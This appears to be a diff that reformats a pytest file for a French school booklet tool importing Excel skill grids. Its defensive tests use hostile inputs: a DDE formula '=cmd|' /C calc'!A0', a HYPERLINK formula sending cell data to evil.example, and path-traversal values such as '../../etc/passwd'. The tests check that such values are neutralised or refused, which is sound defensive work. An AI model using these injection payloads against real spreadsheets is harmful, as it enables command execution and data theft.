@@ -1,4 +1,3 @@
-
 import pytest
 from openpyxl import load_workbook
 
@@ -59,18 +58,25 @@ def _broken(path, change):
     wb.save(path)
 
 
-@pytest.mark.parametrize("change, expected", [
-    (lambda wb: _cell(wb["Compétences"], "1.2.1", 4).__setattr__("value", "B"),
-     "ligne 7 (1.2.1, PFMP 1) : niveau « B » inconnu"),
-    (lambda wb: wb["Compétences"].delete_rows(5), "lignes au lieu de"),
-    (lambda wb: _cell(wb["Compétences"], "1.1.2", 1).__setattr__("value", "1.1.9"), "code « 1.1.2 » attendu"),
-    (lambda wb: wb["Compétences"].cell(row=1, column=4).__setattr__("value", "Note"), "en-têtes de colonnes"),
-    (lambda wb: wb["Attitudes"].delete_rows(3), "liste des attitudes a été modifiée"),
-    (lambda wb: wb.remove(wb["_spirale"]), "n'est pas un livret produit par Spirale"),
-    (lambda wb: wb["Compétences"].delete_rows(1, wb["Compétences"].max_row), "la feuille « Compétences » est vide"),
-    (lambda wb: wb["_spirale"].cell(row=3, column=2).__setattr__("value", "inconnu-x"),
-     "l'élève « inconnu-x » n'est pas dans la liste de la classe"),
-])
+@pytest.mark.parametrize(
+    "change, expected",
+    [
+        (
+            lambda wb: _cell(wb["Compétences"], "1.2.1", 4).__setattr__("value", "B"),
+            "ligne 7 (1.2.1, PFMP 1) : niveau « B » inconnu",
+        ),
+        (lambda wb: wb["Compétences"].delete_rows(5), "lignes au lieu de"),
+        (lambda wb: _cell(wb["Compétences"], "1.1.2", 1).__setattr__("value", "1.1.9"), "code « 1.1.2 » attendu"),
+        (lambda wb: wb["Compétences"].cell(row=1, column=4).__setattr__("value", "Note"), "en-têtes de colonnes"),
+        (lambda wb: wb["Attitudes"].delete_rows(3), "liste des attitudes a été modifiée"),
+        (lambda wb: wb.remove(wb["_spirale"]), "n'est pas un livret produit par Spirale"),
+        (lambda wb: wb["Compétences"].delete_rows(1, wb["Compétences"].max_row), "la feuille « Compétences » est vide"),
+        (
+            lambda wb: wb["_spirale"].cell(row=3, column=2).__setattr__("value", "inconnu-x"),
+            "l'élève « inconnu-x » n'est pas dans la liste de la classe",
+        ),
+    ],
+)
 def test_malformed_grids_are_refused_in_french(booklet_file, ref, change, expected):
     pupils, path = booklet_file
     _broken(path, change)
@@ -89,16 +95,25 @@ def test_not_a_workbook(tmp_path, ref, class_list):
 # --- attacks: teacher text in the workbook, forged hidden sheet, oversize sheets ---------------------------
 
 
-HOSTILE = Pupil(last_name="=cmd|' /C calc'!A0", first_name="+1+1", grade="1MCVB",
-                company='=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")', tutor="@SUM(1)\x1b")
+HOSTILE = Pupil(
+    last_name="=cmd|' /C calc'!A0",
+    first_name="+1+1",
+    grade="1MCVB",
+    company='=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")',
+    tutor="@SUM(1)\x1b",
+)
 
 
 def test_identity_typed_like_formulas_stays_text_and_the_grid_still_imports(tmp_path, ref):
     booklet = build_booklets([HOSTILE], "premiere", ref)[0]
     path = write_booklet_workbook(booklet, tmp_path / "livret.xlsx", ref)
     assert live_xlsx_cells(path) == []
-    assert {"'=cmd|' /C calc'!A0", "'+1+1", "'=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Cliquez\")",
-            "'@SUM(1)"} <= xlsx_texts(path)
+    assert {
+        "'=cmd|' /C calc'!A0",
+        "'+1+1",
+        '\'=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")',
+        "'@SUM(1)",
+    } <= xlsx_texts(path)
     wb = load_workbook(path)
     _cell(wb["Compétences"], "1.1.1", 4).value = "A"
     wb.save(path)
@@ -139,13 +154,16 @@ def test_a_grid_claiming_another_pupil_is_refused_by_its_visible_sheet(two_grids
     assert "n'est pas le livret de cet élève" in str(err.value)
 
 
-@pytest.mark.parametrize("key, value, expected", [
-    ("livret", "../../../etc/x", "feuille cachée a été modifiée"),
-    ("eleve", "../../etc/passwd", "n'est pas dans la liste de la classe"),
-    ("eleve", "x" * 5000, "n'est pas dans la liste de la classe"),
-    ("annee", "=1+1", "année du livret illisible"),
-    ("format", "99", "version de livret inconnue"),
-])
+@pytest.mark.parametrize(
+    "key, value, expected",
+    [
+        ("livret", "../../../etc/x", "feuille cachée a été modifiée"),
+        ("eleve", "../../etc/passwd", "n'est pas dans la liste de la classe"),
+        ("eleve", "x" * 5000, "n'est pas dans la liste de la classe"),
+        ("annee", "=1+1", "année du livret illisible"),
+        ("format", "99", "version de livret inconnue"),
+    ],
+)
 def test_forged_hidden_values_give_a_french_refusal(two_grids, ref, key, value, expected):
     pupils, (martin, *_) = two_grids
     _meta(martin, key, value)
